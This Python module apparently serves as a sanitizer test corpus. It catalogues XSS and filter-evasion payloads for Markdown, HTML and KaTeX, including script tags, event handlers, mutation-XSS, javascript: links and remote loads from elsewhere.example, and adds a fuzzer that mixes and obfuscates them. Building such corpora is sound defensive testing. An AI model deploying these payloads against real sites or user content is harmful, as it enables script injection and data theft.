"""Hostile Markdown: a collection by what it tries, and a fuzzer that cuts and mixes it.

The kinds follow the OWASP XSS Filter Evasion and DOM-based XSS cheat sheets, the HTML5 Security Cheatsheet, the
advisories of markdown-it, DOMPurify and KaTeX, and the tests of CommonMark for links; the texts are our own. A script
that runs calls `alert`; a request that is made goes to elsewhere.example.
"""

import random

FOREIGN = "elsewhere.example"
SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script foo>",
    "<script type=module>import '//elsewhere.example/x.js'</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//elsewhere.example/x.js /></svg>",
    "</span><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
]
HANDLERS = [
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    '<img src="x`y" onerror=alert(1)//">',
    '"><img src=x onerror=alert(1)>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<div tabindex=0 autofocus onfocusin=alert(1)>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<p popover onbeforetoggle=alert(1) id=p>x</p><button popovertarget=p>y</button>",
    '<a href="https://elsewhere.example" onclick="alert(1)">x</a>',
    '<p class="x" onclick=alert(1)>x</p>',
]
MUTATIONS = [
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x'></use></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>",
    "<table><td background='//elsewhere.example/x.png'></td></table>",
    "<p id=attributes><input name=parentNode></p>",
    "<a id=x><a id=x name=y href='cid:alert(1)'>",
    "<img name=getElementById><form id=document><input name=cookie></form>",
    "<x-element is=x onclick=alert(1)>x</x-element>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
]
LINKS = [
    "[눌러 보세요](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](java\u200bscript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:https://elsewhere.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://elsewhere.example)",
    "[x](//elsewhere.example)",
    "[x](\\\\elsewhere.example)",
    "[x](https:javascript:alert(1))",
    '[a](https://elsewhere.example/" onmouseover="alert(1))',
    "[a](https://elsewhere.example/' onmouseover='alert(1))",
    '[a](https://elsewhere.example "x" onmouseover=alert(1) y=")',
    '[a](https://elsewhere.example "\\" onmouseover=alert(1) \\"")',
    '[x]: https://elsewhere.example "onmouseover=alert(1)"\n[x]',
    "[x]: javascript:alert(1)\n[x]",
    "[x][y]\n\n[y]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<https://elsewhere.example/onclick=alert(1)>",
    "<a@elsewhere.example?subject=<script>alert(1)</script>>",
    "[<img src=x onerror=alert(1)>](https://elsewhere.example)",
    "[![x](x)](javascript:alert(1))",
    "[https://contest.example](https://elsewhere.example)",
    "[x](https://contest.example@elsewhere.example)",
    "[\u202egpj.x](https://elsewhere.example)",
]
LOADS = [
    "![그림](https://elsewhere.example/pixel.png)",
    "![x](https://elsewhere.example/a?onerror=alert(1))",
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://elsewhere.example/pixel.png",
    "!\\[x](https://elsewhere.example/pixel.png)",
    "<iframe src='https://elsewhere.example'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='https://elsewhere.example'></object><embed src='https://elsewhere.example'>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<link rel=prefetch href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<base href='https://elsewhere.example/'>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<p style='background:url(https://elsewhere.example/x.png)'>x</p>",
    "<form action=https://elsewhere.example><button autofocus>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<picture><source srcset=https://elsewhere.example/x.png><img></picture>",
    "<portal src=https://elsewhere.example></portal>",
    "<applet code=x codebase=https://elsewhere.example></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
]
STRUCTURES = [
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "```html onclick=alert(1)\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "~~~ x\" class='masthead' y=\"\n<script>alert(1)</script>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "``` `<script>alert(1)</script>` ```",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
    '| a |\n|:--" onclick="alert(1)|\n| b |',
    "> <script>alert(1)</script>\n> > ![x](https://elsewhere.example/x.png)",
    "1. <script>alert(1)</script>\n   - [x](javascript:alert(1))",
    '99999999999. x\n1" onclick="alert(1). y',
    "# <img src=x onerror=alert(1)>\n[x](javascript:alert(1))\n---",
    "**<script>alert(1)</script>** _<b onclick=alert(1)>x</b>_ ~~<i>x</i>~~",
    "<div class='masthead' style='position:fixed;inset:0'>가짜 화면</div>",
    "<div id=battle data-state=voted>x</div>",
    "- [ ] <input type=checkbox onclick=alert(1)>",
    "Footnote[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\nHTML",
    "```constructor\nx\n```",
    "```__proto__\nx\n```",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[x](javascript:alert(1))",
    "> > > > > > > > > > > > > > > > <script>alert(1)</script>",
]
MATHS = [
    "$<img src=x onerror=alert(1)>$",
    "$$<script>alert(1)</script>$$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\url{javascript:alert(1)}$$",
    "$$\\includegraphics[height=1em]{https://elsewhere.example/x.png}$$",
    "$$\\htmlClass{masthead}{x}$$",
    "$$\\htmlId{battle}{x}$$",
    "$$\\htmlStyle{position:fixed;inset:0}{x}$$",
    "$$\\htmlData{onclick=alert(1)}{x}$$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</span><script>alert(1)</script>}$",
    "$\\color{red;background:url(//elsewhere.example)}{x}$",
    "$$\\rule{9999em}{9999em}$$",
    "$$\\kern{9999em} x$$",
    "$$\\raisebox{9999em}{x} \\\\[9999em] y$$",
    "$$\\genfrac{}{}{9999em}{}{1}{2}$$",
    "$$\\begin{array}{c} x \\\\[-9999em] y \\end{array}$$",
    "$$\\smash{\\rule[-9999em]{9999em}{9999em}}$$",
    "$$\\colorbox{red}{\\phantom{xxxxxxxx}}\\fcolorbox{red;position:fixed}{blue}{x}$$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$$\\unicode{<script>alert(1)</script>}$$",
    "$\\unknown<script>alert(1)</script>$",
    "$a$<script>alert(1)</script>$b$",
    "\\(<img src=x onerror=alert(1)>\\) \\[<script>alert(1)</script>\\]",
]
HOSTILE = [*SCRIPTS, *HANDLERS, *MUTATIONS, *LINKS, *LOADS, *STRUCTURES, *MATHS]

GLUE = [
    "",
    "",
    " ",
    "\n",
    "\n\n",
    "\t",
    "*",
    "**",
    "_",
    "`",
    "```\n",
    "$",
    "$$",
    "[",
    "](",
    ")",
    "<",
    ">",
    "\\",
    "|",
    "> ",
]
NOISE = [
    "\u0000",
    "\u0001",
    "\u200b",
    "\u200d",
    "\u202e",
    "\ufeff",
    "\u00a0",
    "&#0;",
    "&Tab;",
    "&NewLine;",
    "%0a",
    "\r",
    "/",
]


def fuzzed(count: int, seed: int) -> list[str]:
    """So many texts that are cut, mixed and spelled otherwise; the same for the same seed."""
    chance = random.Random(seed)
    return [_mixed(chance) for _ in range(count)]


def _mixed(chance: random.Random) -> str:
    """Two to four pieces of the collection, each perhaps cut and disturbed, with glue between."""
    text = ""
    for _ in range(chance.randint(2, 4)):
        piece = chance.choice(HOSTILE)
        if chance.random() < 0.5:
            start, end = sorted(chance.sample(range(len(piece) + 1), 2))
            piece = piece[start:end]
        text += _disturbed(piece, chance) + chance.choice(GLUE)
    return text


def _disturbed(piece: str, chance: random.Random) -> str:
    """Other capitals, noise in between, or a character as its entity."""
    way = chance.randrange(4)
    place = chance.randrange(len(piece) + 1)
    if way == 0:
        return "".join(chance.choice((char.lower(), char.upper())) for char in piece)
    if way == 1:
        return piece[:place] + chance.choice(NOISE) + piece[place:]
    if way == 2 and place < len(piece):
        return piece[:place] + f"&#{ord(piece[place])};" + piece[place + 1 :]
    return piece
